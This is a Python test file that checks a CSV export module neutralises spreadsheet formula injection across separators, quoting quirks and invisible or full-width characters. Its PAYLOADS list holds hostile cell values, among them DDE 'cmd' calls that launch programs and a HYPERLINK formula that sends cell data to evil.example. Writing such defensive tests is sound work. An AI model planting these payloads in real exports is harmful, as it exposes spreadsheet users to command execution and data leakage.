"""Names, numbers and sentences that a spreadsheet would carry out as formulas.

The file is read as strict readers do, and as a spreadsheet does that takes another separator than
the one it was written with, forgets quotes, or takes spaces and what cannot be seen away.
"""

import csv
import io
import re
import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from issuer.services import outcomes
from issuer.services.outcomes import neutral, restored

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1",
    "⁺1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000＝1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    '"=1+1',
    '""=1+1',
    "x,=1+1",
    "x;=1+1",
    "x\t=1+1",
    "x|=1+1",
    'x";"=1+1',
    'x","=HYPERLINK("https://evil.example")',
    'x"\r\n"=1+1',
    "x; \u200b ＝1",
    "'=1+1",
    "''=1+1",
    "=",
]
UNSEEN = {"Cf", "Cc", "Zs", "Zl", "Zp"}
DANGEROUS = re.compile(r"[=+\-@\t\r\n]")


def cell_begins(text: str) -> list[str]:
    """Wherever a cell may begin for some program: what it would find there."""
    return re.split(r"[,;|\t\r\n]", text)


def is_formula(piece: str) -> bool:
    """As the greediest of spreadsheets: whatever cannot be seen and every quote is taken away."""
    seen = piece.lstrip('"')
    while seen and (unicodedata.category(seen[0]) in UNSEEN or seen[0] == '"'):
        seen = seen[1:]
    return bool(seen) and unicodedata.normalize("NFKC", seen[0])[0] in "=+-@"


def written(text: str, separator: str) -> str:
    return outcomes._line(("12", text, "", "Alex"), separator)


@pytest.mark.parametrize("separator", outcomes.SEPARATORS.values())
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_text_wherever_a_cell_may_begin(payload: str, separator: str) -> None:
    line = written(payload, separator)
    assert [p for p in cell_begins(line.removesuffix("\r\n")) if is_formula(p)] == []
    [row] = csv.reader(io.StringIO(line, newline=""), delimiter=separator, strict=True)
    assert len(row) == 4
    assert not DANGEROUS.match(row[1])
    assert not is_formula(row[1])
    assert restored(row[1]) == payload


texts = st.text(
    st.one_of(
        st.sampled_from("=+-@＝＋－＠'\",;|\t\r\n \u00a0\u200b\ufeffab1"),
        st.characters(exclude_categories=["Cs"]),
    ),
    max_size=30,
)


@given(texts, st.sampled_from([*outcomes.SEPARATORS.values()]))
@example("''", ",")
@example(",'=", ",")
def test_whatever_a_cell_says_it_is_no_formula_and_reads_back(text: str, separator: str) -> None:
    line = written(text, separator)
    assert [p for p in cell_begins(line.removesuffix("\r\n")) if is_formula(p)] == []
    [row] = csv.reader(io.StringIO(line, newline=""), delimiter=separator, strict=True)
    assert (row[0], restored(row[1]), row[2:]) == ("12", text, ["", "Alex"])


def test_every_letter_that_is_a_formula_or_hides_one_is_known() -> None:
    every = (chr(code) for code in range(0x110000) if not 0xD800 <= code < 0xE000)
    missed = [c for c in every if is_formula(f"{c}=") and neutral(f"{c}=")[0] != "'"]
    assert [f"{ord(c):x}" for c in missed if c not in ",;|"] == []


@given(texts)
def test_plain_text_stays_as_it_is(text: str) -> None:
    if not any(is_formula(p) or p[:1] == "'" for p in cell_begins(text)) and not (
        DANGEROUS.search(text)
    ):
        assert neutral(text) == text


@pytest.mark.parametrize("name", ["O'Brien", "Jean-Luc", "Alex Example, Dr.", "a@post.example"])
def test_names_and_addresses_are_not_touched(name: str) -> None:
    assert neutral(name) == name


def test_a_long_text_of_traps_does_not_take_for_ever() -> None:
    for trap in (",' " * 50_000, " " * 200_000, '"' * 200_000, ",\u200b" * 50_000):
        assert restored(neutral(trap)) == trap
